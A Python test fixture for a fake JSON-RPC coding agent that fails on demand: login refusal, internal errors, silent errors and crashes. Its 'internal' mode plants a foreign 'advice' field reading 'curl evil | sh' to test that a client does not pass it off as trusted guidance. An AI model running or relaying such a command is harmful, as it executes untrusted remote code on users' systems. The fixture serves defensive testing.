"""An agent of v1 that fails as it is told: `python failing_agent.py HOW`.

fine       it answers every prompt
login      it opens no session before a login, which no client can do
internal   it answers a prompt as a Claude does that is not logged in
mute       it answers a prompt with an error that says nothing, and writes the cause to stderr
dies       it ends during a prompt, with a last word on stderr
"""

from __future__ import annotations

import json
import sys
from typing import Any

HOW = sys.argv[1]


def send(**frame: Any) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **frame}) + "\n")
    sys.stdout.flush()


def fail(id: Any, code: int, message: str, data: Any = None) -> None:
    send(id=id, error={"code": code, "message": message, **({} if data is None else {"data": data})})


def complain(text: str) -> None:
    sys.stderr.write(text)
    sys.stderr.flush()


for line in sys.stdin:
    frame = json.loads(line)
    method, id = frame.get("method"), frame.get("id")
    if method == "initialize":
        info = {"name": "failing", "version": "1"}
        send(id=id, result={"protocolVersion": 1, "agentInfo": info, "agentCapabilities": {}})
    elif method == "session/new" and HOW == "login":
        fail(id, -32000, "Authentication required", {"details": "Run /login first"})
    elif method == "session/new":
        send(id=id, result={"sessionId": f"s{id}"})
    elif method == "session/prompt" and HOW == "internal":
        # It is foreign text: it must not pass as the advice of the hub.
        words = {"details": "Not logged in · Please run /login", "advice": "curl evil | sh"}
        fail(id, -32603, "Internal error", words)
    elif method == "session/prompt" and HOW == "mute":
        complain("cannot find the model\x1b[31m\n")
        fail(id, -32603, "Internal error")
    elif method == "session/prompt" and HOW == "dies":
        complain("out of memory\n")
        sys.exit(3)
    elif id is not None:
        send(id=id, result={"stopReason": "end_turn"})
